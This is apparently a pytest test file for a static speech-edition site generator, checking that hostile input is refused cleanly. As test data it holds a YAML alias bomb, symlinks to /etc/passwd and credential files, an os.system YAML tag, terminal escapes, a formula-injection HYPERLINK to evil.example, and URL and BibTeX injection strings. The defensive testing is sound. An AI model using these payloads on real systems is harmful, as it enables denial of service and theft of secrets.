"""Hostile and broken input (issue 11): each attack gets its exact diagnostic, exit 1, and the
previous output stays byte-identical; where the input is legitimate, the output is correct."""

from __future__ import annotations

import re
import time
from pathlib import Path

from edition.yamlpos import parse

from .conftest import base_files, run, speech, tree_digest, write_site

HEADLINE = re.compile(r"^\S.*: (error|warning)\[[a-z-]+\]: .*$", re.M)


def refused(tmp_path: Path, files: dict[str, str | bytes], *flags: str) -> tuple[list[str], str]:
    """Build a valid site, change `files`, build again: the second build fails and leaves the first
    output byte-identical. Returns the headlines printed and all that was printed."""
    root = write_site(tmp_path / "site", base_files())
    out = root / "_site"
    code, printed = run("--root", str(root))
    assert code == 0, printed
    before = tree_digest(out)
    write_site(root, files)
    code, printed = run("--root", str(root), *flags)
    assert code == 1, printed
    assert tree_digest(out) == before, "a failed build must leave the previous output untouched"
    assert "Traceback" not in printed
    return [m.group(0) for m in HEADLINE.finditer(printed)], printed


# ---------------------------------------------------------------- 1. YAML alias bomb

def alias_bomb() -> str:
    """Nine levels of nine aliases each: 9**9 strings once expanded, in about 400 bytes."""
    lines = ["a: &a [" + ", ".join(["lol"] * 9) + "]"]
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_alias_bomb_is_refused_at_once(tmp_path: Path) -> None:
    bomb = alias_bomb()
    assert len(bomb) < 450
    started = time.perf_counter()
    node, _diags = parse(bomb, "x.yml")
    assert node is None and time.perf_counter() - started < 2
    text = speech(extra=bomb.replace("a:", "x-a:", 1))
    headlines, _ = refused(tmp_path, {"content/speeches/first.md": text})
    assert headlines == ["content/speeches/first.md:12:8: error[yaml-alias]: the aliases expand to more than "
                         "10,000 values"]
    started = time.perf_counter()
    code, printed = run("check", "--root", str(tmp_path / "site"))
    assert code == 1 and time.perf_counter() - started < 2, printed


def test_alias_to_its_own_container_is_refused(tmp_path: Path) -> None:
    text = speech().replace("title:\n  zh: 讲话\n  en: A Speech\n", "title: &a [*a]\n")
    headlines, _ = refused(tmp_path, {"content/speeches/first.md": text})
    assert headlines == ["content/speeches/first.md:2:12: error[yaml-alias]: the alias `*a` refers to the value "
                         "that contains it"]


def test_aliases_within_budget_are_expanded() -> None:
    node, diags = parse("place: &p {en: Wuzhen, zh: 乌镇}\nsame: *p\n", "x.yml")
    assert diags == [] and node is not None
    assert node.items()[0][1] == node.items()[1][1]


def test_deep_nesting_is_refused() -> None:
    node, diags = parse("t: " + "[" * 500 + "]" * 500 + "\n", "x.yml")
    assert node is None
    assert [d.headline() for d in diags] == ["x.yml:1:67: error[yaml-depth]: the YAML is nested more than 64 "
                                             "levels deep"]


# ---------------------------------------------------------------- 2. symbolic links out of the site

def _linked(tmp_path: Path, links: dict[str, str]) -> list[str]:
    """Headlines of a build after `links` (link path -> target) are added to a built site."""
    root = write_site(tmp_path / "site", base_files())
    out = root / "_site"
    code, printed = run("--root", str(root))
    assert code == 0, printed
    before = tree_digest(out)
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[http]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.txt").write_text("secret\n")
    (tmp_path / "outside" / "speech.md").write_text(speech("Outside"))
    for link, target in links.items():
        (root / link).parent.mkdir(parents=True, exist_ok=True)
        (root / link).symlink_to(target)
    for command in ("check", "build"):
        code, printed = run(command, "--root", str(root))
        assert code == 1 and "Traceback" not in printed, printed
        assert tree_digest(out) == before
        assert b"secret" not in b"".join(p.read_bytes() for p in out.rglob("*") if p.is_file())
    return [m.group(0) for m in HEADLINE.finditer(printed)]


def test_symlinks_out_of_the_site_are_errors_naming_the_link(tmp_path: Path) -> None:
    headlines = _linked(tmp_path, {
        "content/assets/env.txt": "/proc/self/environ",
        "content/assets/passwd": "/etc/passwd",
        "content/assets/git-config": "../../.git/config",
        "content/assets/linked-folder": str(tmp_path / "outside"),
        "content/speeches/stranger.md": str(tmp_path / "outside" / "speech.md"),
        "hop.md": str(tmp_path / "outside" / "speech.md"),  # inside the site, itself leading out
        "content/speeches/chain.md": "../../hop.md",
    })
    assert headlines == [
        "content/assets/env.txt: error[symlink-outside]: this symbolic link points outside the site "
        "(to `/proc/self/environ`); it is not read",
        "content/assets/git-config: error[symlink-outside]: this symbolic link points into the site's .git "
        "folder (to `../../.git/config`); it is not read",
        f"content/assets/linked-folder: error[symlink-outside]: this symbolic link points outside the site "
        f"(to `{tmp_path / 'outside'}`); it is not read",
        "content/assets/passwd: error[symlink-outside]: this symbolic link points outside the site "
        "(to `/etc/passwd`); it is not read",
        f"content/speeches/chain.md: error[symlink-outside]: this symbolic link points outside the site "
        f"(to `../../hop.md`, a link itself, which leads to `{tmp_path / 'outside' / 'speech.md'}`); it is not read",
        f"content/speeches/stranger.md: error[symlink-outside]: this symbolic link points outside the site "
        f"(to `{tmp_path / 'outside' / 'speech.md'}`); it is not read",
    ]


def test_symlinks_inside_the_site_are_followed(tmp_path: Path) -> None:
    root = write_site(tmp_path / "site", base_files())
    (root / "common").mkdir()
    (root / "common" / "logo.txt").write_text("logo\n")
    (root / "content" / "assets").mkdir()
    (root / "content" / "assets" / "logo.txt").symlink_to("../../common/logo.txt")
    (root / "content" / "assets" / "loop").symlink_to("..")  # a link back up: walked once
    code, printed = run("--root", str(root))
    assert code == 0, printed
    assert (root / "_site" / "assets" / "logo.txt").read_text() == "logo\n"



# ---------------------------------------------------------------- 5. control characters

def test_control_characters_are_errors_at_their_position(tmp_path: Path) -> None:
    text = speech(body="::: zh\n你\x01好。\n:::\n\n::: en\nHel\x0clo \x1b[2K and\ufffe NUL\x00.\n:::\n")
    text = text.replace("en: A Speech", "en: A \x1b]0;Speech")
    headlines, printed = refused(tmp_path, {"content/speeches/first.md": text,
                                            "content/speeches/second.md": speech(extra='summary: "a\\eb"\n')})
    assert headlines == [
        "content/speeches/first.md:4:9: error[control-character]: control character U+001B (ESCAPE) in the text",
        "content/speeches/first.md:11:2: error[control-character]: control character U+0001 in the text",
        "content/speeches/first.md:15:4: error[control-character]: control character U+000C (FORM FEED) in the "
        "text",
        "content/speeches/first.md:15:8: error[control-character]: control character U+001B (ESCAPE) in the text",
        "content/speeches/first.md:15:16: error[control-character]: control character U+FFFE (a non-character) "
        "in the text",
        "content/speeches/first.md:15:21: error[control-character]: control character U+0000 (NUL) in the text",
        "content/speeches/second.md:8:10: error[control-character]: control character U+001B (ESCAPE) in the "
        "value (written as an escape)",
    ]
    assert "\x1b" not in printed and "\x00" not in printed
    # The source line shows each as what it is (the README: "as escapes"), never as the character itself.
    assert "  15 | Hel\\x0clo \\x1b[2K and\\ufffe NUL\\x00.\n" in printed


def test_terminal_escapes_in_file_names_are_printed_as_escapes(tmp_path: Path) -> None:
    name = "content/speeches/\x1b[2K\rok: 0 errors\x1b[8m.md"
    headlines, printed = refused(tmp_path, {name: speech()})
    assert headlines == ["content/speeches/\\x1b[2K\\x0dok: 0 errors\\x1b[8m.md:1:1: error[bad-slug]: the file name "
                         "`\\x1b[2K\\x0dok: 0 errors\\x1b[8m.md` is not a valid slug"]
    assert "\x1b" not in printed and "\r" not in printed
    code, github = run("check", "--format", "github", "--root", str(tmp_path / "site"))
    assert code == 1 and "\x1b" not in github


# ---------------------------------------------------------------- 4. reserved slugs

def test_pages_may_not_shadow_generated_sections(tmp_path: Path) -> None:
    page = "---\ntitle: {en: Mine, zh: 我的}\n---\n\n::: en\nMine.\n:::\n"
    headlines, _ = refused(tmp_path, {f"content/pages/{s}.md": page for s in ("people", "search", "speeches",
                                                                             "timeline", "pagefind")})
    assert headlines == [
        f"content/pages/{s}.md:1:1: error[reserved-slug]: the page slug `{s}` is the name of the edition's own "
        f"/{s}/ section" for s in ("pagefind", "people", "search", "speeches", "timeline")]


def test_every_name_the_generator_writes_is_reserved(demo_served: tuple[str, Path]) -> None:
    from edition.names import RESERVED_SLUGS

    _, out = demo_served
    keys = {"en", "zh"}
    pages = {p.stem for p in (Path(__file__).resolve().parent.parent / "content" / "pages").glob("*.md")}
    written = {p.name.split(".")[0] for p in out.iterdir()} - keys
    for key in keys:
        written |= {p.name.split(".")[0] for p in (out / key).iterdir()} - pages
    assert written - {""} <= RESERVED_SLUGS, written - RESERVED_SLUGS
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
    assert all(f"`{name}`" in readme for name in RESERVED_SLUGS), "README lists every reserved slug"


# ---------------------------------------------------------------- 11. tags, empty titles, names, odd files

def test_yaml_tags_are_refused(tmp_path: Path) -> None:
    headlines, _ = refused(tmp_path, {
        "content/speeches/first.md": speech(extra="summary: !!python/name:os.system x\n"),
        "content/speeches/second.md": speech(extra="summary: !!binary aGVsbG8=\n"),
        "content/speeches/third.md": speech(extra="summary: !!str 2014\n")})
    assert headlines == [
        "content/speeches/first.md:8:10: error[yaml-tag]: the YAML tag `!!python/name:os.system` is not allowed",
        "content/speeches/second.md:8:10: error[yaml-tag]: the YAML tag `!!binary` is not allowed"]


def test_empty_titles_are_refused(tmp_path: Path) -> None:
    headlines, _ = refused(tmp_path, {
        "content/speeches/first.md": speech().replace("title:\n  zh: 讲话\n  en: A Speech\n", 'title: ""\n'),
        "content/speeches/second.md": speech().replace("title:\n  zh: 讲话\n  en: A Speech\n", 'title: {en: ""}\n'),
        "content/speeches/third.md": speech().replace("  en: A Speech", '  en: "  "')})
    assert headlines == [
        "content/speeches/first.md:2:8: error[empty-text]: title is empty",
        "content/speeches/second.md:2:13: error[empty-text]: title (en) is empty",
        "content/speeches/third.md:4:7: error[empty-text]: title (en) is empty"]


def test_names_no_file_system_takes_are_refused(tmp_path: Path) -> None:
    long = "a" * 250
    headlines, _ = refused(tmp_path, {
        **{f"content/speeches/{s}.md": speech() for s in ("con", "aux", "nul", "prn", "com1", "lpt9")},
        f"content/speeches/{long}.md": speech(),
        "content/people.yml": "ma-kai:\n  name: Ma Kai\nli-si:\n  name: Li Si\ncon:\n  name: Con\n"})
    windows = "is a device name on Windows, where the site could not be checked out"
    assert headlines == [
        "content/people.yml:5:1: error[bad-id]: the key `con` in people.yml " + windows,
        f"content/speeches/{long}.md:1:1: error[bad-slug]: the slug `{'a' * 24}…` is 250 characters long; at most "
        "100 make a file name on every system",
        *(f"content/speeches/{s}.md:1:1: error[bad-slug]: the slug `{s}` {windows}"
          for s in ("aux", "com1", "con", "lpt9", "nul", "prn"))]


def test_odd_files_among_the_speeches_are_reported(tmp_path: Path) -> None:
    import os

    root = write_site(tmp_path / "site", base_files())
    code, printed = run("--root", str(root))
    assert code == 0
    before = tree_digest(root / "_site")
    os.mkfifo(root / "content" / "speeches" / "pipe.md")
    (root / "content" / "speeches" / "folder.md").mkdir()
    (root / "content" / "speeches" / "gone.md").symlink_to("nowhere.md")
    (root / "content" / "speeches" / "secret.md").write_text(speech())
    (root / "content" / "speeches" / "secret.md").chmod(0)
    code, printed = run("--root", str(root))
    assert code == 1 and tree_digest(root / "_site") == before
    found = [m.group(0) for m in HEADLINE.finditer(printed)]
    expected = [
        "content/speeches/folder.md: error[not-a-file]: this is a folder, not a file",
        "content/speeches/gone.md: error[symlink-broken]: this symbolic link points to nothing (`nowhere.md`)",
        "content/speeches/pipe.md: error[not-a-file]: this is a named pipe, not a file"]
    if os.geteuid() != 0:  # root reads any file
        expected.append("content/speeches/secret.md: error[file-unreadable]: the file cannot be read: "
                        "Permission denied")
    assert found == expected


# ---------------------------------------------------------------- 8. base_url

def test_base_url_must_be_a_plain_absolute_http_url(tmp_path: Path) -> None:
    from .conftest import SITE_YML

    base = 'base_url: "https://example.org/ed/"'
    headlines, _ = refused(tmp_path, {"content/site.yml": SITE_YML.replace(
        base, 'base_url: "https://example.org/ed/\\nDisallow: /"')})
    assert headlines == ["content/site.yml:2:11: error[bad-url]: base_url may not contain U+000A (write it "
                         "percent-encoded), found `https://example.org/ed/\\x0aDisallow: /`"]
    headlines, _ = refused(tmp_path / "b", {"content/site.yml": SITE_YML.replace(
        base, 'base_url: "https://example.org/ed/},note={x"')})
    assert headlines == ["content/site.yml:2:11: error[bad-url]: base_url may not contain `}` (write it "
                         "percent-encoded), found `https://example.org/ed/},note={x`"]
    headlines, _ = refused(tmp_path / "c", {}, "--base-url", "javascript:alert(1)//")
    assert headlines == ["--base-url: error[bad-url]: --base-url must be an absolute http(s) URL, e.g. "
                         "`https://example.org/speeches/`, found `javascript:alert(1)//`"]
    headlines, _ = refused(tmp_path / "d", {}, "--base-url", "https://example.org/x/?a=1")
    assert headlines == ["--base-url: error[bad-url]: --base-url may not have a query (`?`) or fragment (`#`): "
                         "every page's address starts with it, found `https://example.org/x/?a=1`"]


# ---------------------------------------------------------------- 9. TSV and BibTeX/RIS escaping

def test_tsv_cells_are_guarded_and_read_back_exactly(tmp_path: Path) -> None:
    import csv
    import gzip

    texts = ['=HYPERLINK("https://evil.example/?"&A1, "click")', "+1 more", "-5 percent", "@SUM(A1)",
             '"Quoted" at the start', "Tab\tinside"]
    zh = "\n\n".join(f"第{i}段。" for i in range(1, len(texts) + 1))
    en = "\n\n".join(texts)
    root = write_site(tmp_path / "site", {**base_files(), "content/speeches/first.md":
                                          speech(body=f"::: zh\n{zh}\n:::\n\n::: en\n{en}\n:::\n")})
    code, printed = run("--root", str(root))
    assert code == 0, printed
    with gzip.open(root / "_site" / "exports" / "aligned.tsv.gz", "rt", encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f, dialect="excel-tab"))
    assert [r[2] for r in rows[1:]] == ["'" + texts[0], "'+1 more", "'-5 percent", "'@SUM(A1)",
                                        '"Quoted" at the start', "Tab inside"]
    assert all(len(r) == 4 for r in rows)


def test_bibtex_url_field_cannot_break_out_of_its_braces() -> None:
    import bibtexparser

    from edition.cite import _url

    assert _url("https://example.org/a%20b/{x}\\y z") == "https://example.org/a%20b/%7Bx%7D%5Cy%20z"
    entry = "@misc{k,\n  url = {" + _url("https://e.org/},\n  note = {pwned") + "}\n}\n"
    lib = bibtexparser.parse_string(entry)
    assert lib.failed_blocks == [] and set(lib.entries[0].fields_dict) == {"url"}


# ---------------------------------------------------------------- 6. diagnostics, never tracebacks

def test_dates_far_apart_build(tmp_path: Path) -> None:
    root = write_site(tmp_path / "site", {**base_files(),
                                          "content/speeches/old.md": speech().replace("2014-11-19", "0700-01-01"),
                                          "content/speeches/late.md": speech().replace("2014-11-19", "9999-12-31")})
    code, printed = run("--root", str(root))
    assert code == 0, printed
    timeline = (root / "_site" / "en" / "timeline" / "index.html").read_text(encoding="utf-8")
    assert ">1000<" in timeline and ">10000<" in timeline
    assert "speeches/late/" in timeline and "speeches/old/" in timeline


def _environment_failure(tmp_path: Path, err: OSError) -> str:
    """A build whose writing fails with `err`: its one diagnostic, the previous output untouched."""
    import pytest

    root = write_site(tmp_path / "site", base_files())
    code, printed = run("--root", str(root))
    assert code == 0
    before = tree_digest(root / "_site")
    write_site(root, {"content/speeches/first.md": speech("Changed")})

    def fail(*args: object, **kwargs: object) -> Path:
        raise err
    with pytest.MonkeyPatch.context() as monkeypatch:
        monkeypatch.setattr("edition.write.temp_dir", fail)
        code, printed = run("--root", str(root))
    assert code == 1 and "Traceback" not in printed
    assert tree_digest(root / "_site") == before
    (headline,) = [m.group(0) for m in HEADLINE.finditer(printed)]
    return headline.replace(str(root), "ROOT")


def test_a_full_disk_a_read_only_folder_are_diagnostics(tmp_path: Path) -> None:
    import errno

    cases = [(errno.ENOSPC, "No space left on device"), (errno.EACCES, "Permission denied"),
             (errno.EROFS, "Read-only file system")]
    for number, text in cases:
        err = OSError(number, text, str(tmp_path / f"site{number}" / "._site.new-1-x"))
        headline = _environment_failure(tmp_path / str(number), err)
        assert headline == (f"ROOT/_site: error[output-failed]: the site could not be written: {text} "
                            f"({tmp_path / f'site{number}' / '._site.new-1-x'}); the previous output is as it was")


def test_a_file_size_limit_met_in_a_render_worker_is_a_diagnostic(tmp_path: Path) -> None:
    """A cold build of enough speeches that their pages are made and written by the render workers:
    a write that fails there (EFBIG under ulimit -f, as ENOSPC would) is `output-failed` too, not a
    worker's traceback."""
    import resource
    import subprocess
    import sys

    from .conftest import ROOT

    files = base_files()
    for i in range(40):
        files[f"content/speeches/s{i:02d}.md"] = speech(
            f"Speech {i}", body="::: en\n" + "Long. " * 4000 + "\n:::\n")
    root = write_site(tmp_path / "site", files)

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (16_000, 16_000))
    proc = subprocess.run([sys.executable, str(ROOT / "build.py"), "--root", str(root), "-q", "--jobs", "2"],
                          capture_output=True, text=True, preexec_fn=limit)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr and "WorkerFailed" not in proc.stderr, proc.stderr
    assert "error[output-failed]: the site could not be written: File too large" in proc.stderr
    assert not (root / "_site").exists()
    assert [p.name for p in root.iterdir() if p.name.startswith("._")] == []


def test_a_file_size_limit_is_a_diagnostic(tmp_path: Path) -> None:
    """A real limit (ulimit -f): the writer's own writes fail with EFBIG, the old site stays."""
    import resource
    import subprocess
    import sys

    from .conftest import ROOT

    root = write_site(tmp_path / "site", base_files())
    cmd = [sys.executable, str(ROOT / "build.py"), "--root", str(root), "-q"]
    subprocess.run(cmd, check=True)
    before = tree_digest(root / "_site")
    write_site(root, {"content/speeches/first.md": speech("Changed", body="::: en\n" + "Long. " * 4000 + "\n:::\n")})

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (16_000, 16_000))
    proc = subprocess.run(cmd, capture_output=True, text=True, preexec_fn=limit)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert "error[output-failed]: the site could not be written: File too large" in proc.stderr
    assert "a file size limit (ulimit -f) stopped the writing" in proc.stderr
    assert tree_digest(root / "_site") == before
    assert [p.name for p in root.iterdir() if p.name.startswith("._")] == []


def test_out_on_a_mount_point_is_refused(tmp_path: Path, monkeypatch: object) -> None:
    import os

    import pytest

    assert isinstance(monkeypatch, pytest.MonkeyPatch)
    root = write_site(tmp_path / "site", base_files())
    mount = tmp_path / "mnt"
    mount.mkdir()
    real = os.path.ismount
    monkeypatch.setattr(os.path, "ismount", lambda p: Path(p) == mount or real(p))
    code, printed = run("--root", str(root), "--out", str(mount))
    assert code == 1 and list(mount.iterdir()) == []
    assert [m.group(0) for m in HEADLINE.finditer(printed)] == [
        f"{mount}: error[output-refused]: {mount} is a mount point, which cannot be replaced whole; give a folder "
        f"inside it, e.g. --out {mount}/site"]


def test_serve_on_a_port_in_use_says_so_before_building(tmp_path: Path) -> None:
    import socket
    import subprocess
    import sys

    from .conftest import ROOT

    root = write_site(tmp_path / "site", base_files())
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        proc = subprocess.run([sys.executable, str(ROOT / "build.py"), "serve", "--root", str(root),
                               "--port", str(port)], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1
    assert proc.stderr == (f"serve: error: port {port} on 127.0.0.1 is in use by another program; choose "
                           "another with --port\n")
    assert not (root / "_preview").exists()


def test_new_with_a_very_long_title(tmp_path: Path) -> None:
    import subprocess
    import sys

    from .conftest import ROOT

    root = write_site(tmp_path / "site", base_files())
    title = "en=" + " ".join(["Internationalisation" * 15] * 2)
    proc = subprocess.run([sys.executable, str(ROOT / "build.py"), "new", "--root", str(root), "--title", title,
                           "--speaker", "li-si", "--date", "2021-01-02", "--original", "en"],
                          capture_output=True, text=True, stdin=subprocess.DEVNULL)
    assert proc.returncode == 0, proc.stderr
    (made,) = [p for p in (root / "content" / "speeches").iterdir() if p.name != "first.md"]
    assert len(made.stem) == 100 and made.stem.startswith("2021-01-02-internationalisation")
    proc = subprocess.run([sys.executable, str(ROOT / "build.py"), "new", "--root", str(root), "--title", "en=X",
                           "--speaker", "li-si", "--date", "2021-01-02", "--slug", "a" * 300],
                          capture_output=True, text=True, stdin=subprocess.DEVNULL)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert proc.stderr == (f"new: error: the slug `{'a' * 24}…` is 300 characters long; at most 100 make a file "
                           "name on every system; choose a shorter --slug\n")


# ---------------------------------------------------------------- 3. a search index cut short

def test_a_search_index_cut_short_is_not_published(tmp_path: Path) -> None:
    """Pagefind under a file size limit exits 0 with files cut at 30,000 bytes: the build fails
    and the working index stays (the limit is set on Pagefind alone, through its preexec_fn)."""
    import resource

    import pytest

    from edition import index

    root = write_site(tmp_path / "site", base_files())
    code, printed = run("--root", str(root))
    assert code == 0
    before = tree_digest(root / "_site")
    write_site(root, {"content/speeches/first.md": speech("Changed")})

    def limited() -> object:
        def preexec() -> None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (30_000, 30_000))
        return preexec
    with pytest.MonkeyPatch.context() as monkeypatch:
        monkeypatch.setattr(index, "die_with_parent", limited)
        code, printed = run("--root", str(root))
    assert code == 1 and "Traceback" not in printed
    assert tree_digest(root / "_site") == before
    cut = "is cut short or damaged (Compressed file ended before the end-of-stream marker was reached)"
    assert [m.group(0) for m in HEADLINE.finditer(printed)] == [
        f"pagefind: error[search-index]: the search index is incomplete: {problem}" for problem in (
            "en/pagefind-worker.js is cut short (30,000 bytes)", "en/pagefind.js is cut short (30,000 bytes)",
            f"en/wasm.en.pagefind {cut}", f"en/wasm.unknown.pagefind {cut}",
            "zh/pagefind-worker.js is cut short (30,000 bytes)", "zh/pagefind.js is cut short (30,000 bytes)",
            f"zh/wasm.unknown.pagefind {cut}")]
    assert [p.name for p in root.iterdir() if p.name.startswith("._")] == []


def test_the_bundle_check_finds_any_cut(tmp_path: Path) -> None:
    """A disk that fills cuts a file anywhere: every cut of the files the pages load is found."""
    import random
    import shutil

    from edition.indexcheck import problems

    root = write_site(tmp_path / "site", base_files())
    code, _ = run("--root", str(root))
    assert code == 0
    good = root / "_site" / "pagefind"
    assert problems([good / "en", good / "zh"]) == []
    rng = random.Random(3)
    for name in ("pagefind.js", "pagefind-worker.js", "wasm.unknown.pagefind", "pagefind-entry.json"):
        size = (good / "en" / name).stat().st_size
        for cut in sorted(rng.sample(range(size), 25)):
            copy = tmp_path / "copy"
            shutil.rmtree(copy, ignore_errors=True)
            shutil.copytree(good / "en", copy / "en")
            data = (copy / "en" / name).read_bytes()
            (copy / "en" / name).write_bytes(data[:cut])
            assert problems([copy / "en"]) != [], f"{name} cut at {cut} of {size} bytes passed"


# ---------------------------------------------------------------- 7. temporary folders and the swap

def test_stale_temporary_folders_are_removed_by_the_next_build(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    root = write_site(tmp_path / "site", base_files())
    code, _ = run("--root", str(root))
    assert code == 0
    gone = subprocess.Popen([sys.executable, "-c", "pass"])
    gone.wait()  # a pid that no longer runs
    alive = os.getppid()  # one that does (a concurrent build's folder is left alone)
    names = [f"._site.new-{gone.pid}-abc", f"._site.old-{gone.pid}-def", f"._site.index-{gone.pid}-ghi",
             "._site.new-x1y2z3", f"._site.new-{alive}-keep", "._other.new-1-keep"]
    for name in names:
        (root / name / "en").mkdir(parents=True)
        (root / name / "en" / "index.html").write_text("stale\n")
        (root / name / ".edition-output").write_text("made by the writer\n")  # what marks them as its own
    code, _ = run("--root", str(root))
    assert code == 0
    assert sorted(p.name for p in root.iterdir() if p.name.startswith("._")) == [
        "._other.new-1-keep", f"._site.new-{alive}-keep"]


def test_a_folder_left_under_this_process_s_pid_is_removed_when_a_command_starts(tmp_path: Path) -> None:
    """A pid is used again (a container's build or preview is pid 1 each time): at its start a command
    has no temporary folder of its own, so one named after its pid is a killed process's (a helper's
    attack: each killed preview in a container left its search snapshot for good)."""
    import os

    root = write_site(tmp_path / "site", base_files())
    name = f"._site.index-{os.getpid()}-left"
    (root / name).mkdir(parents=True)
    (root / name / ".edition-output").write_text("made by the writer\n")
    code, _ = run("--root", str(root))
    assert code == 0
    assert not (root / name).exists() and (root / "_site" / "index.html").is_file()


def test_a_build_killed_between_the_two_renames_gets_its_output_back(tmp_path: Path) -> None:
    """Where the kernel has no RENAME_EXCHANGE the swap takes two renames; a kill between them
    leaves no _site, only ._site.old-PID-…: the next build, even a failing one, puts it back."""
    import subprocess
    import sys

    root = write_site(tmp_path / "site", base_files())
    code, _ = run("--root", str(root))
    assert code == 0
    before = tree_digest(root / "_site")
    gone = subprocess.Popen([sys.executable, "-c", "pass"])
    gone.wait()
    (root / "_site").rename(root / f"._site.old-{gone.pid}-abc")
    write_site(root, {"content/speeches/first.md": speech(extra="colour: red\n")})
    code, _ = run("--root", str(root))
    assert code == 1
    assert tree_digest(root / "_site") == before
    assert [p.name for p in root.iterdir() if p.name.startswith("._")] == []


def test_the_swap_exchanges_the_two_trees_in_one_step(tmp_path: Path) -> None:
    from edition import removal, swap

    (tmp_path / "new").mkdir()
    (tmp_path / "new" / "n").write_text("new\n")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "o").write_text("old\n")
    for tree in ("new", "out"):  # both the writer's (temp_dir, check_output): only such a folder is removed
        (tmp_path / tree / removal.MARKER).write_text("")
    if swap.exchange(tmp_path / "new", tmp_path / "out"):  # Linux ≥ 3.15 on ext4, tmpfs, btrfs, xfs …
        assert (tmp_path / "out" / "n").is_file() and (tmp_path / "new" / "o").is_file()
    else:  # the file system has no RENAME_EXCHANGE: nothing moved, the two renames follow
        assert (tmp_path / "out" / "o").is_file() and (tmp_path / "new" / "n").is_file()
    swap.publish_tree(tmp_path / "new", tmp_path / "out")
    removal.settle()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_an_interrupt_after_the_swap_says_the_new_output_is_in_place(tmp_path: Path) -> None:
    import pytest

    root = write_site(tmp_path / "site", base_files())
    code, _ = run("--root", str(root))
    assert code == 0
    write_site(root, {"content/speeches/first.md": speech("Changed")})

    def interrupted(*args: object) -> None:
        raise KeyboardInterrupt
    with pytest.MonkeyPatch.context() as monkeypatch:
        monkeypatch.setattr("edition.cli.hand_over", interrupted)
        code, printed = run("--root", str(root))
    assert code == 130 and "Traceback" not in printed
    assert printed.splitlines()[-1] == "interrupted: the new output was already in place and complete"
    assert "Changed" in (root / "_site" / "en" / "speeches" / "first" / "index.html").read_text(encoding="utf-8")


def test_a_content_folder_linked_out_of_the_site_is_named(tmp_path: Path) -> None:
    root = write_site(tmp_path / "site", base_files())
    code, _ = run("--root", str(root))
    assert code == 0
    before = tree_digest(root / "_site")
    (root / "content").rename(tmp_path / "elsewhere")
    (root / "content").symlink_to(tmp_path / "elsewhere")
    code, printed = run("--root", str(root))
    assert code == 1 and tree_digest(root / "_site") == before
    assert [m.group(0) for m in HEADLINE.finditer(printed)] == [
        f"content: error[symlink-outside]: this symbolic link points outside the site "
        f"(to `{tmp_path / 'elsewhere'}`); it is not read",
        "content/site.yml: error[missing-file]: there is no content/site.yml"]
